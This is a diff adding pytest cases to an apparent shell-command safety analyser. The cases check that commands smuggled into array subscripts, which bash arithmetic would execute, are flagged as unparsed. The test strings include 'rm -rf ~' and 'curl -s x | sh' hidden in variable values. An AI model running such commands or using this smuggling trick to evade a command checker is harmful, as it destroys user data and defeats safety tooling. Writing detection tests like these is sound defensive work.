@@ -390,3 +390,23 @@ def test_sensitive_paths_above_a_home(command: str) -> None:
 def test_array_subscripts_of_assignments_are_walked(command: str, programs: list[str]) -> None:
     facts = shell_facts("Bash", {"command": command}, None)
     assert sorted(facts.programs) == sorted(programs) and facts.substitutions
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "x='a[$(rm -rf ~)]'; echo $((x))",  # arithmetic reads x's value and runs the subscript
+        "x='a[`id`]'; [[ $x -eq 1 ]]",
+        "x='a[$(id)]'; (( x > 1 ))",
+        "export y='b[$(curl -s x | sh)]'; let z=y",
+        "declare -i n; v='a[$(id)]'; n=v",
+    ],
+)
+def test_a_variable_holding_a_subscript_arithmetic_would_run_is_unparsed(command: str) -> None:
+    facts = shell_facts("Bash", {"command": command}, None)
+    assert facts.unparsed and "arithmetic would run" in facts.error
+
+
+@pytest.mark.parametrize("command", ["x='[a]'; echo $x", "x='$(date)'; echo $x", "arr[1]=2; echo ${arr[1]}"])
+def test_ordinary_values_with_brackets_or_dollars_are_analysed(command: str) -> None:
+    assert not shell_facts("Bash", {"command": command}, None).unparsed
